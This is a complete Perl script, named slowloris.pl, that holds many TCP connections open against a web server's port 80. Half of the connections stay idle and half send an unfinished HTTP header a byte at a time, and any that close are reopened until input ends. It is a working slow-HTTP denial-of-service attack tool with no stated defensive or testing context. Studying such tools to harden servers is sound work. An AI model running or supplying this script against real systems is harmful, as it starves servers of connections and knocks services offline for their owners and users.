#!/usr/bin/perl
# Clients that keep connections from others: slowloris.pl ADDRESS CONNECTIONS. Half of them send nothing, half a header
# that never ends, a byte now and then; whichever is closed is opened anew. Says "held" when all have been there once, and
# goes on until its standard input ends; then says how many it has opened.
use strict;
use warnings;
use IO::Select;
use Socket;
$| = 1;
$SIG{PIPE} = 'IGNORE';
my ($address, $connections) = @ARGV;
my $server = pack_sockaddr_in 80, inet_aton $address;
my ($opened, $said, @held) = (0, 0);
sub opened {
    socket my $socket, AF_INET, SOCK_STREAM, 0 or return undef;
    connect $socket, $server or return undef;
    syswrite $socket, "GET /big.bin HTTP/1.1\r\nHost: x\r\nA:" if $opened++ % 2;
    return $socket;
}
my $end = IO::Select->new(\*STDIN);
until ($end->can_read(0)) {
    for my $i (0 .. $connections - 1) {
        $held[$i] = opened() unless defined $held[$i];
        next unless defined $held[$i];
        my $is_closed = !defined send($held[$i], $i % 2 ? 'a' : '', 0);
        my $byte = '';
        $is_closed ||= defined recv($held[$i], $byte, 1, MSG_DONTWAIT) && $byte eq '';
        $held[$i] = undef if $is_closed;
        last if $i % 100 == 0 && $end->can_read(0);
    }
    print "held\n" unless $said++;
}
print "$opened connections\n";
